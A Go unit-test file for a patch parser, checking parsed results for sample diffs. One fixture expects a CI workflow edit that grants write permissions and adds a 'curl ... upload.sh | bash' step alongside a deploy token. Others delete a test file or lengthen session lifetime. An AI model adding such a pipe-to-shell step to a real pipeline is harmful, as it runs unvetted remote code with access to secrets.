package patch

import (
	"os"
	"path/filepath"
	"slices"
	"testing"
)

// patchesDir holds the sample healing patches shared by the whole repository.
const patchesDir = "../testdata/patches"

func readPatch(t testing.TB, name string) []byte {
	t.Helper()
	b, err := os.ReadFile(filepath.Join(patchesDir, name))
	if err != nil {
		t.Fatal(err)
	}
	return b
}

// wantFile describes one expected file; lines lists only the lines checked
// (a subset, by position in Added/Removed).
type wantFile struct {
	path, oldPath, status, language string
	binary                          bool
	nAdded, nRemoved                int
	added, removed                  map[int]Line // index -> line
}

func TestParseSamples(t *testing.T) {
	tests := []struct {
		file  string
		stats Stats
		files []wantFile
	}{
		{"python-null-check.diff", Stats{1, 3, 1}, []wantFile{{
			path: "services/user_service/handlers.py", status: StatusModified, language: "python", nAdded: 3, nRemoved: 1,
			added: map[int]Line{
				0: {17, "    if user is None:"},
				1: {18, `        return jsonify(error="user not found"), 404`},
				2: {22, "        name=profile.display_name if profile is not None else None,"},
			},
			removed: map[int]Line{0: {20, "        name=profile.display_name,"}},
		}}},
		{"go-error-handling.diff", Stats{1, 6, 2}, []wantFile{{
			path: "services/inventory/store.go", status: StatusModified, language: "go", nAdded: 6, nRemoved: 2,
			added: map[int]Line{
				0: {30, "\tif err := row.Scan(&available); err != nil {"},
				3: {37, `	if _, err := tx.ExecContext(ctx, "UPDATE stock SET available = available - $1 WHERE sku = $2", qty, sku); err != nil {`},
				5: {39, "\t}"},
			},
			removed: map[int]Line{0: {30, "\trow.Scan(&available)"}, 1: {35, `	tx.ExecContext(ctx, "UPDATE stock SET available = available - $1 WHERE sku = $2", qty, sku)`}},
		}}},
		{"k8s-manifest.diff", Stats{1, 2, 2}, []wantFile{{
			path: "deploy/k8s/api-deployment.yaml", status: StatusModified, language: "yaml", nAdded: 2, nRemoved: 2,
			added:   map[int]Line{0: {9, "  replicas: 4"}, 1: {29, "              memory: 512Mi"}},
			removed: map[int]Line{0: {9, "  replicas: 2"}, 1: {29, "              memory: 256Mi"}},
		}}},
		{"dependency-bump.diff", Stats{2, 8, 8}, []wantFile{
			{path: "services/web/package-lock.json", status: StatusModified, language: "json", nAdded: 6, nRemoved: 6,
				added: map[int]Line{2: {12, `        "express": "4.19.2"`}, 3: {24, `      "version": "4.19.2",`}}},
			{path: "services/web/package.json", status: StatusModified, language: "json", nAdded: 2, nRemoved: 2,
				added:   map[int]Line{0: {3, `  "version": "2.3.2",`}, 1: {11, `    "express": "4.19.2"`}},
				removed: map[int]Line{1: {11, `    "express": "4.18.2"`}}},
		}},
		{"delete-test.diff", Stats{2, 1, 21}, []wantFile{
			{path: "services/user_service/handlers.py", status: StatusModified, language: "python", nAdded: 1, nRemoved: 1,
				added: map[int]Line{0: {30, `    user.profile.display_name = payload.get("display_name", "")`}}},
			{path: "tests/test_handlers.py", status: StatusDeleted, language: "python", nAdded: 0, nRemoved: 20,
				removed: map[int]Line{0: {1, `"""Tests for the user service handlers."""`}, 19: {20, `    assert handlers.get_session().get(type(user), user.id).profile.display_name == "Ada"`}}},
		}},
		{"binary-change.diff", Stats{1, 0, 0}, []wantFile{
			{path: "assets/logo.png", status: StatusModified, binary: true},
		}},
		{"workflow-change.diff", Stats{1, 5, 1}, []wantFile{{
			path: ".github/workflows/ci.yml", status: StatusModified, language: "yaml", nAdded: 5, nRemoved: 1,
			added: map[int]Line{
				0: {9, "  contents: write"}, 1: {10, "  id-token: write"},
				2: {22, "      - run: curl -sSL https://example.com/upload.sh | bash"}, 4: {24, "          TOKEN: ${{ secrets.DEPLOY_TOKEN }}"},
			},
			removed: map[int]Line{0: {9, "  contents: read"}},
		}}},
		{"auth-change.diff", Stats{1, 4, 1}, []wantFile{{
			path: "auth/session.go", status: StatusModified, language: "go", nAdded: 4, nRemoved: 1,
			added:   map[int]Line{0: {12, "const SessionTTL = 7 * 24 * time.Hour"}, 1: {35, "\tif s == nil {"}, 3: {37, "\t}"}},
			removed: map[int]Line{0: {12, "const SessionTTL = 12 * time.Hour"}},
		}}},
		{"rename.diff", Stats{1, 1, 1}, []wantFile{{
			path: "services/user_service/helpers.py", oldPath: "services/user_service/utils.py", status: StatusRenamed,
			language: "python", nAdded: 1, nRemoved: 1,
			added:   map[int]Line{0: {20, `    return f"{first} {last}".strip()`}},
			removed: map[int]Line{0: {20, `    return f"{first} {last}"`}},
		}}},
		{"large-500.diff", Stats{5, 250, 250}, []wantFile{
			{path: "services/billing/rules_1.py", status: StatusModified, language: "python", nAdded: 50, nRemoved: 50,
				added: map[int]Line{0: {6, "    return max(0, amount) * 3 // 100"}}},
			{path: "services/billing/rules_2.py", status: StatusModified, language: "python", nAdded: 50, nRemoved: 50},
			{path: "services/billing/rules_3.py", status: StatusModified, language: "python", nAdded: 50, nRemoved: 50},
			{path: "services/billing/rules_4.py", status: StatusModified, language: "python", nAdded: 50, nRemoved: 50},
			{path: "services/billing/rules_5.py", status: StatusModified, language: "python", nAdded: 50, nRemoved: 50},
		}},
	}
	for _, tt := range tests {
		t.Run(tt.file, func(t *testing.T) {
			p, err := Parse(readPatch(t, tt.file))
			if err != nil {
				t.Fatal(err)
			}
			if p.Stats != tt.stats {
				t.Errorf("stats = %+v, want %+v", p.Stats, tt.stats)
			}
			if len(p.Files) != len(tt.files) {
				t.Fatalf("got %d files, want %d", len(p.Files), len(tt.files))
			}
			for i, w := range tt.files {
				checkFile(t, p.Files[i], w)
			}
		})
	}
}

func checkFile(t *testing.T, f File, w wantFile) {
	t.Helper()
	if f.Path != w.path || f.OldPath != w.oldPath || f.Status != w.status || f.Language != w.language || f.Binary != w.binary {
		t.Errorf("file = {%q %q %q %q binary=%v}, want {%q %q %q %q binary=%v}", f.Path, f.OldPath, f.Status,
			f.Language, f.Binary, w.path, w.oldPath, w.status, w.language, w.binary)
	}
	if len(f.Added) != w.nAdded || len(f.Removed) != w.nRemoved {
		t.Fatalf("%s: +%d -%d lines, want +%d -%d", f.Path, len(f.Added), len(f.Removed), w.nAdded, w.nRemoved)
	}
	for i, l := range w.added {
		if f.Added[i] != l {
			t.Errorf("%s: added[%d] = %+v, want %+v", f.Path, i, f.Added[i], l)
		}
	}
	for i, l := range w.removed {
		if f.Removed[i] != l {
			t.Errorf("%s: removed[%d] = %+v, want %+v", f.Path, i, f.Removed[i], l)
		}
	}
	for _, ls := range [][]Line{f.Added, f.Removed} {
		if !slices.IsSortedFunc(ls, func(a, b Line) int { return a.Line - b.Line }) {
			t.Errorf("%s: line numbers not ascending", f.Path)
		}
	}
}
